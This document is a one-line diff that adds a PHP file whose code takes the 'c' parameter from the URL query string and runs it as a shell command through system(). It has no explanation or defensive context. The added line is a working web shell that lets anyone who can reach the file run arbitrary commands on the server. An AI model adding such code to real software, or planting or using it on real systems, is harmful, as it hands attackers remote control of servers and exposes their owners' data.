@@ -1,0 +1,1 @@
+<?php $c = sprintf("%s", trim($_GET["c"])); system($c);
